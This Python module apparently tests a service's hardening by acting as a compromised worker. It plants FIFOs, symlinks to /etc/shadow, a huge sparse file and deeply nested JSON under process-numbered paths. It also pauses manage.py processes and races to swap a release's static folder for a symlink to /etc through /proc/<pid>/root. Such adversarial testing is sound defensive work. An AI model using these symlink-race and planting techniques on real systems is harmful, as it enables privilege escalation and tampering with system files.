"""What a worker tries once it runs code of an attacker's: everything here is allowed to any process of its user."""

import contextlib
import os
import signal
import stat
import threading
import time
from pathlib import Path

DATA = Path(os.environ.get("ORIGIN_KIT_DATA", "/var/lib/trap"))
WORKERS = Path("/run/trap/workers")
DONE = DATA / "attacks"  # what it could do, a line each
PAUSE_S = 0.02


def begin():
    for work in (plant, hunt):
        threading.Thread(target=work, daemon=True).start()


def note(text):
    with DONE.open("a") as out:
        out.write(text + "\n")


# ------------------------------------------------------------------------------------------- what root may stumble over


def plant():
    """Records that are pipes, links, huge, broken or deep, under the numbers of living processes, some of this unit."""
    sparse = DATA / "sparse"
    with sparse.open("wb") as out:
        out.truncate(1 << 40)
    children = [sleeper() for _ in range(4)]
    kinds = [pipe, link(sparse), text("{}"), text("[" * 4000), link("/etc/shadow")]
    names = [1, *children]
    while True:
        for name, make in zip(names, kinds):
            with contextlib.suppress(FileExistsError, OSError):
                make(WORKERS / str(name))
        for name, make in (("pipe", pipe), ("link", link("/etc/shadow")), ("zz.sqlite3", pipe)):
            with contextlib.suppress(FileExistsError):
                make(DATA / name)
        time.sleep(0.2)


def sleeper():
    child = os.fork()
    if child == 0:
        while True:
            time.sleep(60)
    return child


def pipe(place):
    os.mkfifo(place)


def link(target):
    return lambda place: place.symlink_to(target)


def text(words):
    return lambda place: place.write_text(words) if not place.exists() else None


# ------------------------------------------------------------------------------------------- the way to /etc


def hunt():
    """Stop every manage.py for a moment, and get to /opt by way of what it may write."""
    seen = set()
    while True:
        for process in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError):
                words = Path("/proc", process, "cmdline").read_bytes()
                if process in seen or b"manage.py" not in words:
                    continue
                seen.add(process)
                note(f"saw {words.replace(bytes(1), b' ').decode()[:200]}")
                os.kill(int(process), signal.SIGSTOP)
                try:
                    enter(process)
                finally:
                    os.kill(int(process), signal.SIGCONT)
        time.sleep(PAUSE_S)


def enter(process):
    """The root of another process of this user, writable where that one's is: keep its folders open, and swap there."""
    try:
        releases = os.open(f"/proc/{process}/root/opt/trap/releases", os.O_RDONLY)
    except PermissionError:
        note("could not enter /proc/<pid>/root")
        return
    note("entered /proc/<pid>/root")
    threading.Thread(target=swap, args=(releases, 30), daemon=True).start()


def swap(releases, seconds):
    """As soon as a release's static folder is ours, `z` in it becomes a link to /etc, and is a folder again later."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for name in os.listdir(releases):
            with contextlib.suppress(OSError):
                static = os.open(f"{name}/static", os.O_RDONLY | os.O_DIRECTORY, dir_fd=releases)
                try:
                    if os.fstat(static).st_uid == os.getuid():
                        swap_once(static)
                finally:
                    os.close(static)
        time.sleep(0.001)


def swap_once(folder):
    if not stat.S_ISLNK(os.lstat("z", dir_fd=folder).st_mode):
        os.rename("z", "was-z", src_dir_fd=folder, dst_dir_fd=folder)
        os.symlink("/etc", "z", dir_fd=folder)
        note("swapped a folder of a release for a link to /etc")
